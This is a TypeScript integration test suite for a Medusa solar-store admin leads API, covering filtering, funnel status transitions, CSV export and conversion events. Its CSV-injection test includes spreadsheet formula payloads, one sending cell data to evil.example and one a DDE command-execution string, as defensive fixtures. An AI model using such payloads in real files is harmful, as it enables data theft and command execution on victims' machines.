import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
import type Solar360ModuleService from "../../../src/modules/solar360/service"
import { abortAfterFirstChunk } from "../../helpers/abort-stream"
import { responseOf } from "../../helpers/auth"
import { createHttpContext, type RequestHeaders } from "../../helpers/http-context"
import { eventually } from "../../helpers/eventually"
import type { MedusaSuiteOptions } from "@medusajs/test-utils"

export function leadsAdminSuite({ api, getContainer }: MedusaSuiteOptions): void {
  let admin: RequestHeaders
  let solar360: Solar360ModuleService

  beforeEach(async () => {
    ;({ admin, solar360 } = await createHttpContext(api, getContainer(), { admin: true }))
  })

  const capture = async (fields: Record<string, unknown>) => {
    const { lead_id } = await solar360.captureLead({ interest_type: "solar", ...fields } as any)
    return lead_id
  }

  describe("GET /admin/solar360/leads", () => {
    it("lists with pagination, filters, free text and the linked customer", async () => {
      const customer = await getContainer()
        .resolve(Modules.CUSTOMER)
        .createCustomers({ email: "ana@example.com" })
      const ana = await capture({
        name: "Ana Lima",
        email: "ana@example.com",
        interest_type: "quote",
        monthly_bill_brl: 900,
        phone: "11987654321",
        cpf_cnpj: "52998224725",
        utm_campaign: "verao",
        customer_id: customer.id,
      })
      const bruno = await capture({ name: "Bruno 50% Off", email: "bruno@example.com", utm_campaign: "inverno" })
      const carla = await capture({ name: "Carla", email: "carla@empresa.com.br", company: "Solar Ltda", interest_type: "chat" })
      await solar360.updateLeads({ id: carla, status: "lost", lost_reason: "sem orçamento" })

      const all = await api.get("/admin/solar360/leads?limit=2&order=created_at", admin)
      expect(all.data).toMatchObject({ count: 3, offset: 0, limit: 2 })
      expect(all.data.leads.map((l: any) => l.id)).toEqual([ana, bruno])

      const ids = async (query: string) =>
        (await api.get(`/admin/solar360/leads?${query}`, admin)).data.leads.map((l: any) => l.id).sort()

      expect(await ids("status[]=new&status[]=contacted")).toEqual([ana, bruno].sort())
      expect(await ids("status=lost")).toEqual([carla])
      expect(await ids("interest_type=quote")).toEqual([ana])
      expect(await ids("utm_campaign=inverno")).toEqual([bruno])
      expect(await ids("q=solar%20ltda")).toEqual([carla])
      expect(await ids("q=50%25")).toEqual([bruno])
      expect(await ids("q=ANA@")).toEqual([ana])
      expect(await ids("is_qualified=true")).toEqual([ana])
      expect(await ids("score_min=40")).toEqual([ana])
      expect(await ids("score_max=39")).toEqual([bruno, carla].sort())
      const future = new Date(Date.now() + 3600_000).toISOString()
      expect(await ids(`created_at[$gte]=${future}`)).toEqual([])

      const withCustomer = await api.get(
        `/admin/solar360/leads?q=ana&fields=id,email,*customer,score,score_breakdown`,
        admin
      )
      expect(withCustomer.data.leads[0]).toMatchObject({
        id: ana,
        customer: { email: "ana@example.com" },
      })
      // The six profile factors share 100 points; the behaviour ones are bonus points on top.
      const factors = withCustomer.data.leads[0].score_breakdown.factors
      expect(factors.map((factor: { factor: string }) => factor.factor)).toEqual([
        "bill",
        "interest",
        "contact",
        "taxId",
        "touches",
        "recency",
        "returnVisits",
        "simulations",
        "roofLookups",
      ])
      expect(factors.slice(6).map((factor: { max_points: number }) => factor.max_points)).toEqual([10, 10, 5])
    })

    it("rejects unknown filters and bad values with 400", async () => {
      for (const query of ["status=archived", "score_min=abc", "colour=red", "is_qualified=maybe"]) {
        const response = await responseOf(api.get(`/admin/solar360/leads?${query}`, admin))
        expect(response.status).toBe(400)
        expect(response.data.type).toBe("invalid_data")
      }
    })

    it("answers 401 without an admin session", async () => {
      expect((await responseOf(api.get("/admin/solar360/leads"))).status).toBe(401)
    })
  })

  describe("GET /admin/solar360/leads/:id and POST /admin/solar360/leads/:id", () => {
    it("walks the funnel to conversion, recording who moved it, and refuses illegal moves", async () => {
      const id = await capture({ email: "funil@example.com" })
      const me = (await api.get("/admin/users/me", admin)).data.user.id

      for (const status of ["contacted", "qualified", "proposal", "negotiation", "converted"]) {
        const moved = await api.post(`/admin/solar360/leads/${id}`, { status, note: `to ${status}` }, admin)
        expect(moved.data.lead.status).toBe(status)
      }

      const { lead } = (await api.get(`/admin/solar360/leads/${id}`, admin)).data
      const history = [...lead.status_history].sort(
        (a: any, b: any) => new Date(a.created_at).getTime() - new Date(b.created_at).getTime()
      )
      expect(history.map((h: any) => [h.from_status, h.to_status])).toEqual([
        [null, "new"],
        ["new", "contacted"],
        ["contacted", "qualified"],
        ["qualified", "proposal"],
        ["proposal", "negotiation"],
        ["negotiation", "converted"],
      ])
      expect(history.slice(1).every((h: any) => h.actor_type === "user" && h.actor_id === me)).toBe(true)
      expect(lead.contacted_at).not.toBeNull()
      expect(lead.converted_at).not.toBeNull()

      const final = await responseOf(api.post(`/admin/solar360/leads/${id}`, { status: "contacted" }, admin))
      expect(final.status).toBe(400)
      expect(final.data).toMatchObject({ type: "invalid_data", code: "lead_status_final" })

      const reopened = await api.post(`/admin/solar360/leads/${id}`, { status: "contacted", reopen: true }, admin)
      expect(reopened.data.lead.status).toBe("contacted")
      expect(reopened.data.lead.converted_at).toBeNull()
    })

    it("requires a reason to lose a lead and forbids moving back", async () => {
      const id = await capture({ email: "perdido@example.com" })
      await api.post(`/admin/solar360/leads/${id}`, { status: "proposal" }, admin)

      const back = await responseOf(api.post(`/admin/solar360/leads/${id}`, { status: "contacted" }, admin))
      expect(back.status).toBe(400)
      expect(back.data.code).toBe("lead_transition_not_allowed")

      const noReason = await responseOf(api.post(`/admin/solar360/leads/${id}`, { status: "lost" }, admin))
      expect(noReason.status).toBe(400)
      expect(noReason.data.code).toBe("lead_lost_reason_required")
      expect((await solar360.retrieveLead(id)).status).toBe("proposal")

      const lost = await api.post(
        `/admin/solar360/leads/${id}`,
        { status: "lost", lost_reason: "escolheu concorrente" },
        admin
      )
      expect(lost.data.lead).toMatchObject({ status: "lost", lost_reason: "escolheu concorrente" })
    })

    it("assigns a lead and keeps notes without touching the status history", async () => {
      const id = await capture({ email: "notas@example.com" })
      const updated = await api.post(
        `/admin/solar360/leads/${id}`,
        { assigned_to: "vendedor@loja.com", notes: "Ligar depois das 18h" },
        admin
      )
      expect(updated.data.lead).toMatchObject({
        status: "new",
        assigned_to: "vendedor@loja.com",
        notes: "Ligar depois das 18h",
      })
      expect(updated.data.lead.status_history).toHaveLength(1)
      const byAssignee = await api.get("/admin/solar360/leads?assigned_to=vendedor@loja.com", admin)
      expect(byAssignee.data.leads.map((l: any) => l.id)).toEqual([id])
    })

    it("rejects bad bodies with 400", async () => {
      const id = await capture({ email: "corpo@example.com" })
      for (const body of [{}, { status: "archived" }, { score: 99 }, { customer_id: "cus_1" }]) {
        const response = await responseOf(api.post(`/admin/solar360/leads/${id}`, body, admin))
        expect(response.status).toBe(400)
      }
    })

    it("answers 404 for an unknown lead", async () => {
      const get = await responseOf(api.get("/admin/solar360/leads/lead_unknown", admin))
      expect(get.status).toBe(404)
      const post = await responseOf(api.post("/admin/solar360/leads/lead_unknown", { status: "contacted" }, admin))
      expect(post.status).toBe(404)
      expect(post.data.type).toBe("not_found")
    })

    it("answers 401 without an admin session", async () => {
      const id = await capture({ email: "auth@example.com" })
      expect((await responseOf(api.get(`/admin/solar360/leads/${id}`))).status).toBe(401)
      expect((await responseOf(api.post(`/admin/solar360/leads/${id}`, { status: "contacted" }))).status).toBe(401)
    })
  })

  describe("GET /admin/solar360/leads/export", () => {
    it("streams every filtered lead as CSV with a BOM, quoting commas, quotes and accents", async () => {
      await capture({ name: 'João "Sol", Jr.', email: "joao@example.com", city: "São José" })
      const bulk = Array.from({ length: 2300 }, (_, i) => ({
        email: `lead${i}@example.com`,
        name: `Lead ${i}`,
        interest_type: "catalog",
        utm_campaign: "massa",
      }))
      await solar360.createLeads(bulk as any)

      // Raw bytes: axios would strip the BOM from a decoded text body.
      const response = await api.get("/admin/solar360/leads/export?utm_campaign=massa", {
        ...admin,
        responseType: "arraybuffer",
      })
      expect(response.headers["content-type"]).toMatch(/text\/csv/)
      expect(response.headers["content-disposition"]).toMatch(/attachment; filename="leads-/)
      const bytes = Buffer.from(response.data)
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
      const body = bytes.toString("utf8")
      expect(body.charCodeAt(0)).toBe(0xfeff)
      const lines = body.slice(1).trim().split("\n")
      expect(lines[0].split(",").slice(0, 4)).toEqual(["id", "created_at", "status", "name"])
      expect(lines).toHaveLength(2301)
      expect(body).not.toContain("joao@example.com")

      const one = await api.get("/admin/solar360/leads/export?q=joao", { ...admin, responseType: "arraybuffer" })
      const text = Buffer.from(one.data).toString("utf8")
      expect(text).toContain('"João ""Sol"", Jr."')
      expect(text).toContain("São José")
      expect(text.slice(1).trim().split("\n")).toHaveLength(2)
    })

    it("neutralises cells that a spreadsheet would run as formulas, and keeps numbers as numbers", async () => {
      await capture({
        name: '=HYPERLINK("http://evil.example/?"&A1,"abrir")',
        email: "formula@example.com",
        company: "@SUM(1,1)",
        city: "-2+3",
        utm_source: "+cmd|' /C calc'!A0",
        utm_medium: "\tleading-tab",
        utm_campaign: "csvinj",
        monthly_bill_brl: 900,
      })
      const response = await api.get("/admin/solar360/leads/export?utm_campaign=csvinj", { ...admin, responseType: "arraybuffer" })
      const [header, row] = Buffer.from(response.data).toString("utf8").slice(1).trim().split("\n")
      const columns = header.split(",")
      // Parse the one row (quoted fields may hold commas).
      const cells = [...row.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
        .map((m) => m[1])
        .slice(0, columns.length)
        .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell))
      const byName = Object.fromEntries(columns.map((name, i) => [name, cells[i]]))
      expect(byName.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"abrir")`)
      expect(byName.company).toBe("'@SUM(1,1)")
      expect(byName.city).toBe("'-2+3")
      expect(byName.utm_source).toBe("'+cmd|' /C calc'!A0")
      expect(byName.utm_medium).toBe("'\tleading-tab")
      expect(byName.email).toBe("formula@example.com")
      expect(byName.monthly_bill_brl).toBe("900")
    })

    it("stops reading leads from the database when the client disconnects", async () => {
      const bulk = Array.from({ length: 8000 }, (_, i) => ({
        email: `gone${i}@example.com`,
        name: `Lead ${i}`,
        interest_type: "catalog",
        utm_campaign: "abort",
      }))
      await solar360.createLeads(bulk as any)
      const query = getContainer().resolve(ContainerRegistrationKeys.QUERY)
      const logger = getContainer().resolve(ContainerRegistrationKeys.LOGGER)
      const info = jest.spyOn(logger, "info")
      const graph = query.graph.bind(query)
      let leadPages = 0
      let aborted!: () => void
      const clientAborted = new Promise<void>((resolve) => (aborted = resolve))
      const spy = jest.spyOn(query, "graph").mockImplementation((async (config: any, ...rest: any[]) => {
        if (config.entity === "lead") {
          leadPages++
          // Page 2 is read only once the client has gone: the outcome cannot depend on timing.
          if (leadPages === 2) {
            await clientAborted
          }
        }
        return graph(config, ...rest)
      }) as any)
      try {
        await abortAfterFirstChunk(api, "/admin/solar360/leads/export?utm_campaign=abort", admin)
        aborted()
        await eventually(async () => {
          expect(info).toHaveBeenCalledWith(expect.stringContaining("lead export stopped after"))
        })
        // 8 pages of 1,000 exist; the export read the first and at most the one in flight.
        expect(leadPages).toBeLessThanOrEqual(3)
      } finally {
        spy.mockRestore()
        info.mockRestore()
      }
    })

    it("rejects an unknown sort column with 400 and needs an admin (401)", async () => {
      const bad = await responseOf(api.get("/admin/solar360/leads/export?order=-password", admin))
      expect(bad.status).toBe(400)
      expect((await responseOf(api.get("/admin/solar360/leads/export"))).status).toBe(401)
    })
  })

  describe("GET /admin/solar360/leads/funnel", () => {
    it("counts leads per status and the conversion between stages", async () => {
      const ids = await Promise.all(
        Array.from({ length: 6 }, (_, i) => capture({ email: `f${i}@example.com`, utm_campaign: "funil" }))
      )
      await capture({ email: "other@example.com", utm_campaign: "outra" })
      const move = (id: string, status: string, extra: Record<string, unknown> = {}) =>
        api.post(`/admin/solar360/leads/${id}`, { status, ...extra }, admin)
      await move(ids[0], "contacted")
      await move(ids[1], "qualified")
      await move(ids[2], "proposal")
      await move(ids[3], "converted")
      await move(ids[4], "contacted")
      await move(ids[4], "lost", { lost_reason: "sem retorno" })

      const { data } = await api.get("/admin/solar360/leads/funnel?utm_campaign=funil", admin)
      expect(data.counts).toEqual({
        new: 1,
        contacted: 1,
        qualified: 1,
        proposal: 1,
        negotiation: 0,
        converted: 1,
        lost: 1,
      })
      expect(data.lost_at_stage).toEqual({ contacted: 1 })
      // reached new 6; contacted: 4 open/converted at or past it + 1 lost there = 5
      expect(data.steps[0]).toMatchObject({ from: "new", to: "contacted", reached_from: 6, reached_to: 5 })
      expect(data.steps[0].rate).toBeCloseTo(5 / 6, 4)
      expect(data.overall).toMatchObject({ total: 6, converted: 1, lost: 1 })
    })

    it("rejects a bad date with 400 and needs an admin (401)", async () => {
      const bad = await responseOf(api.get("/admin/solar360/leads/funnel?created_at[$gte]=ontem", admin))
      expect(bad.status).toBe(400)
      expect((await responseOf(api.get("/admin/solar360/leads/funnel"))).status).toBe(401)
    })
  })

  describe("conversion subscribers", () => {
    it("links open leads to a new customer with the same e-mail", async () => {
      const id = await capture({ email: "nova.cliente@example.com" })
      const customer = await getContainer()
        .resolve(Modules.CUSTOMER)
        .createCustomers({ email: "nova.cliente@example.com" })
      await getContainer()
        .resolve(Modules.EVENT_BUS)
        .emit({ name: "customer.created", data: { id: customer.id } })

      await eventually(async () => {
        expect((await solar360.retrieveLead(id)).customer_id).toBe(customer.id)
      })
    })

    it("converts the buyer's open leads on order.placed, once", async () => {
      const id = await capture({ email: "comprador@example.com", interest_type: "quote" })
      const order = (await getContainer()
        .resolve(Modules.ORDER)
        .createOrders({
          email: "comprador@example.com",
          currency_code: "brl",
          items: [{ title: "Kit solar 5 kWp", quantity: 1, unit_price: 18500 }],
        } as any)) as unknown as { id: string }
      const eventBus = getContainer().resolve(Modules.EVENT_BUS)
      await eventBus.emit({ name: "order.placed", data: { id: order.id } })

      await eventually(async () => {
        const lead = await solar360.retrieveLead(id)
        expect(lead).toMatchObject({ status: "converted", order_id: order.id })
        expect(Number(lead.conversion_value)).toBe(18500)
      })

      await eventBus.emit({ name: "order.placed", data: { id: order.id } })
      await new Promise((resolve) => setTimeout(resolve, 1500))
      const history = await solar360.listLeadStatusChanges({ lead_id: id, to_status: "converted" })
      expect(history).toHaveLength(1)
    })
  })
}
